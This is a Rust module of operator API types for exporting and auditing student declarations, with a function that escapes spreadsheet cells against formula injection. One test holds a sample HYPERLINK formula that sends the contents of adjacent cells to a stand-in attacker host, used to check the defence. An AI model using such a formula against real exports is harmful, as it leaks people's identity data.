//! Messages of the operator routes (`/api/operator/…`) and of the operator
//! command-line tool. The app never uses them.

use crate::declaration::Status;
use serde::{Deserialize, Serialize};
use std::borrow::Cow;

/// Characters that make a spreadsheet read a cell as a formula (or, for
/// tab and carriage return, hide one), after OWASP's advice on CSV
/// injection; and the apostrophe that marks a cell as text, so that the
/// marking can be undone exactly.
const SPREADSHEET_ACTIVE: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\''];

/// A cell a spreadsheet opens as text, never as a formula: one that starts
/// with `=`, `+`, `-`, `@`, a tab, a carriage return or an apostrophe gets
/// a leading apostrophe, which spreadsheets show as nothing.
pub fn spreadsheet_cell(text: &str) -> Cow<'_, str> {
    if text.starts_with(SPREADSHEET_ACTIVE) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// The text of a cell written by [`spreadsheet_cell`] (or typed the same
/// way in a spreadsheet): a leading apostrophe before one of those
/// characters goes; anything else is as it was.
pub fn read_spreadsheet_cell(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(SPREADSHEET_ACTIVE) => rest,
        _ => cell,
    }
}

/// `POST /api/operator/export`: which declarations, and whether to mark the
/// exported ones `under_verification` in the same transaction.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct ExportRequest {
    /// Only this status; both pending ones when absent.
    pub status: Option<Status>,
    pub university: Option<String>,
    /// Received on or after this day (`YYYY-MM-DD`).
    pub since: Option<String>,
    /// Received on or before this day (`YYYY-MM-DD`).
    pub until: Option<String>,
    /// Mark the exported `received` declarations `under_verification`.
    pub mark: bool,
    /// `json` (default) or `csv`.
    pub format: Option<String>,
}

/// One exported declaration: what the fund and ANAM need to verify it.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct ExportedDeclaration {
    pub reference: String,
    pub academic_year: String,
    pub cin: String,
    pub massar: String,
    pub last_name: String,
    pub first_name: String,
    pub birth_date: String,
    pub email: String,
    pub phone: Option<String>,
    pub university: String,
    pub establishment: Option<String>,
    pub status: Status,
    pub received_at: String,
    /// Another declaration uses this CIN with a different Massar code or
    /// birth date (this year or an earlier one): the fund checks which is
    /// the student's, and may refuse with `identity_conflict`.
    pub identity_conflict: bool,
    /// The university whose portal vouched for the identity, if one did.
    pub vouched_by: Option<String>,
}

/// The columns of a CSV export, in order.
pub const EXPORT_COLUMNS: [&str; 15] = [
    "reference",
    "academic_year",
    "cin",
    "massar",
    "last_name",
    "first_name",
    "birth_date",
    "email",
    "phone",
    "university",
    "establishment",
    "status",
    "received_at",
    "identity_conflict",
    "vouched_by",
];

#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct ExportResponse {
    pub declarations: Vec<ExportedDeclaration>,
    /// How many were marked `under_verification` by this export.
    pub marked: usize,
}

/// One entry of the audit log: what an operator did.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct AuditEntry {
    /// RFC 3339, UTC.
    pub at: String,
    /// A short hash of the operator's token (12 hex digits), never the
    /// token.
    pub actor: String,
    /// `export`, `import` or `decision`.
    pub action: String,
    /// References, counts and filters; never a CIN or a name.
    pub detail: serde_json::Value,
}

/// `GET /api/operator/audit`: the newest entries first.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct AuditResponse {
    pub entries: Vec<AuditEntry>,
}

/// What an import did (or, with `dry_run`, would do).
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct ImportReport {
    pub rows: usize,
    /// Decisions recorded now.
    pub applied: usize,
    /// Rows already recorded, identically (importing a file twice).
    pub unchanged: usize,
    pub dry_run: bool,
}

/// A wrong cell of an imported file (rows count from 1, after the header).
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct RowError {
    pub row: usize,
    pub column: String,
    pub code: String,
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn formulas_become_text() {
        let link = r#"=HYPERLINK("https://evil.example/?"&C2&D2,"voir")"#;
        assert_eq!(spreadsheet_cell(link), format!("'{link}"));
        for active in ["+212600", "-1", "@SUM(A1)", "\tx", "\rx", "'quoted"] {
            assert!(spreadsheet_cell(active).starts_with('\''), "{active:?}");
        }
        assert_eq!(spreadsheet_cell("El Amrani"), "El Amrani");
        assert_eq!(spreadsheet_cell("العمراني"), "العمراني");
        assert_eq!(read_spreadsheet_cell("'abc"), "'abc");
    }

    proptest! {
        #[test]
        fn every_cell_reads_back(text in "\\PC{0,12}|['=+@\\t\\r-]{1,3}\\PC{0,6}") {
            let cell = spreadsheet_cell(&text);
            prop_assert_eq!(read_spreadsheet_cell(&cell), text.as_str());
        }
    }
}
